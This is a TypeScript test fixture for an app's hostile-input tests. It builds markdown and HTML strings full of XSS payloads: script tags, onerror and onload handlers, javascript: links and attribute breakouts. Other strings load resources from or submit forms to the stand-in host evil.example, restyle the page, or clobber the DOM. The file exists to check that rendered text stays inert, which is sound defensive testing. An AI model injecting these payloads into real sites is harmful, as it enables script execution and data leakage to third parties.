/**
 * Hostile text for the hostile-input tests: markdown and HTML that would load something from
 * another host, run script, restyle the page, submit a form or clobber the DOM if it were ever
 * rendered as it is. Shared by the e2e suite (test/e2e/hostile.spec.ts), the mock judge's
 * `scripted-hostile` scenario and the hostile dataset fixture (scripts/build-hostile-fixtures.mjs).
 *
 * Every URL points at a host the app never contacts (evil.example, or 127.0.0.1 port 9), so any
 * request to it in the request log means the text reached out.
 */

/** Hosts (host[:port]) that appear only in hostile text. */
export const LEAK_HOSTS = ['evil.example', '127.0.0.1:9'];

const E = 'https://evil.example';

/** Markdown/HTML that must render as inert text formatting; `tag` names where it came from. */
export function hostileMarkdown(tag = 'hostile') {
  return [
    `# ${tag} <script>alert('${tag}')</script>`,
    `**жирный** и _курсив_ остаются; ![pixel](${E}/md-image.png?q=secret) ![local](http://127.0.0.1:9/md-image.png)`,
    `<img src="${E}/img.png" onerror="alert(1)"> <img src=x onerror=alert(document.domain)> <img srcset="${E}/srcset.png 1x">`,
    `<svg onload="alert(2)"><image href="${E}/svg-image.png"/><use href="${E}/use.svg#x"/></svg>`,
    `<style>html,body,main,header{background:rgb(255,0,0)!important;color:rgb(0,255,0)!important;font-family:x!important} @import url(${E}/import.css); @font-face{font-family:x;src:url(${E}/font.woff)}</style>`,
    `<div style="position:fixed;inset:0;z-index:99999;background:url(${E}/bg.png) rgb(255,0,0)">overlay</div>`,
    `<link rel="stylesheet" href="${E}/style.css"><link rel="prefetch" href="${E}/prefetch"><link rel="icon" href="${E}/icon.png">`,
    `<iframe src="${E}/frame"></iframe><object data="${E}/object"></object><embed src="${E}/embed"><portal src="${E}/portal"></portal>`,
    `<video src="${E}/video.mp4" poster="${E}/poster.png" autoplay></video><audio src="${E}/audio.mp3" autoplay></audio>`,
    `<form action="${E}/form"><input name="q" value="secret"><button formaction="${E}/formaction">send</button></form><input type="image" src="${E}/input.png">`,
    `[js](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) <a href="JaVaScRiPt:alert(5)">js</a> <a href="${E}/link" ping="${E}/ping">link</a>`,
    `<meta http-equiv="refresh" content="0;url=${E}/refresh"><base href="${E}/">`,
    `<details open ontoggle="alert(6)">d</details><input autofocus onfocus="alert(7)"><body onload="alert(8)">`,
    `<table background="${E}/table.png"><tr><td background="${E}/td.png">cell</td></tr></table>`,
    `<noscript><img src="${E}/noscript.png"></noscript><template><img src="${E}/template.png"></template><math><mtext><img src="${E}/math.png"></mtext></math>`,
    `<div class="error-box" id="app" name="body">clobber</div>`,
    `"><img src=x onerror=alert(9)>'><svg onload=alert(10)>`,
  ].join('\n\n');
}

/** A one-line hostile name (run names, criteria, share info): attribute and tag breakouts. */
export function hostileName(tag = 'name') {
  return `${tag} "><img src="${E}/name.png" onerror="alert(11)"><style>body{background:rgb(255,0,0)}</style>`;
}
